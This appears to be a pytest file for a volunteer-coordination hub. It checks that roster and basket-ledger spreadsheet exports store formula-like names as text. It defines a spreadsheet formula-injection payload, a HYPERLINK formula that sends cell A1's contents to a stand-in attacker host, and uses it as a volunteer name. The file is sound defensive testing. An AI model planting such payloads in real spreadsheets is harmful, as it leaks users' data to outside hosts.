"""Every .xlsx Menwei writes keeps typed text as text: a name starting with = is never a formula (finding 6)."""
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

AUTH = {"Authorization": "Bearer test-coordinator-token"}
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点这里 click")'


@pytest.fixture
def hub(app):
    """The hub's test client and a helper making rows of its one compound."""
    client = app.test_client()
    cid = client.post("/api/v1/rows/compounds", json={"name": "绿景水岸小区"}, headers=AUTH).get_json()["id"]

    def row(table, **data):
        r = client.post(f"/api/v1/rows/{table}", json={"compound_id": cid, **data}, headers=AUTH)
        assert r.status_code == 201, r.get_json()
        return r.get_json()["id"]
    client.row = row
    return client


def _cells(data):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.value is not None]


def _assert_no_formula(data, text):
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == text and c.data_type == "s" for c in cells), [c.value for c in cells]


def test_the_roster_export_writes_a_volunteer_named_like_a_formula_as_text(hub):
    post = hub.row("posts", name="东门 East gate", kind="gate")
    vol = hub.row("volunteers", name=EVIL)
    start = dt.datetime.now(dt.timezone.utc).replace(microsecond=0) + dt.timedelta(hours=2)
    hub.row("shifts", post_id=post, volunteer_id=vol, starts_at=start.isoformat(),
            ends_at=(start + dt.timedelta(hours=4)).isoformat())
    r = hub.get("/roster/export.xlsx", headers=AUTH)
    assert r.status_code == 200
    _assert_no_formula(r.data, EVIL)


def test_the_basket_ledger_writes_a_room_and_a_volunteer_named_like_formulas_as_text(hub):
    b = hub.row("buildings", number="20")
    hh = hub.row("households", building_id=b, room="1702", label="=1+2")
    vol = hub.row("volunteers", name=EVIL)
    order = hub.row("orders", household_id=hh, delivery_date="2020-02-04", status="bought", paid_by=vol)
    hub.row("order_lines", order_id=order, item="白菜", price=12.5)
    r = hub.get("/basket/ledger.xlsx", headers=AUTH)
    assert r.status_code == 200
    _assert_no_formula(r.data, EVIL)
    _assert_no_formula(r.data, "=1+2")
